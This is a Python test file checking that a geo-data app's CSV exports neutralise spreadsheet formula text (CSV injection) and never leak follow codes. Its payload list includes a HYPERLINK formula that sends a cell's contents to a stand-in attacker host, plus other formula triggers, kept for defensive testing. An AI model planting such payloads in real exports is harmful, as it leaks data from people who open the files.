"""Spreadsheet-bound exports neutralise formula-like text (OWASP CSV injection)."""

from __future__ import annotations

import csv
import io
import math

import pyogrio
import pytest

from geo import model as m
from geo.access import Actor
from geo.io import export_bytes, export_layers
from geo.io.cells import neutralise_formula

ADMIN = Actor("test-admin", "admin")

PAYLOADS = ['=HYPERLINK("https://evil.example/?"&B2,"klik")', "+31 6 1234", "-2+3", "@SUM(A1)",
            "\tcmd", "\rcmd"]


@pytest.mark.parametrize("text", PAYLOADS)
def test_formula_like_text_gets_a_quote(text):
    assert neutralise_formula(text) == "'" + text


@pytest.mark.parametrize("value", ["gewoon tekst", "", " =spatie eerst", "a=b", 12, -3, 1.5, None, True])
def test_other_values_are_untouched(value):
    assert neutralise_formula(value) is value or neutralise_formula(value) == value


def test_nan_is_untouched():
    assert math.isnan(neutralise_formula(float("nan")))


def test_csv_export_neutralises_resident_text_but_geopackage_stays_exact(demo_store, tmp_path):
    sugg = demo_store.list(m.Suggestion)[0]
    sugg.text = PAYLOADS[0]
    demo_store.update(sugg)
    demo_store.add(m.Contact(suggestion_id=sugg.id, email="bewoner@example.org"))
    raw = export_bytes(demo_store, ADMIN, "csv", ["suggestions"], include_contacts=True).decode("utf-8")
    rows = {int(r["id"]): r for r in csv.DictReader(io.StringIO(raw))}
    assert rows[sugg.id]["text"] == "'" + PAYLOADS[0]
    assert rows[sugg.id]["contact_email"] == "bewoner@example.org"
    for row in rows.values():
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
    gpkg = tmp_path / "alles.gpkg"
    export_layers(demo_store, ADMIN, gpkg, ["suggestions"])
    frame = pyogrio.read_dataframe(gpkg, layer="suggestions")
    assert PAYLOADS[0] in list(frame["text"])


def test_exports_never_carry_follow_codes(demo_store, tmp_path):
    from geo import participation as P

    sugg = demo_store.list(m.Suggestion)[0]
    sugg.follow_code = P.new_follow_code()
    demo_store.update(sugg)
    for fmt in ("csv", "geojson", "gpkg"):
        data = export_bytes(demo_store, ADMIN, fmt, ["suggestions"], include_contacts=True)
        assert sugg.follow_code.encode() not in data and b"follow_code" not in data
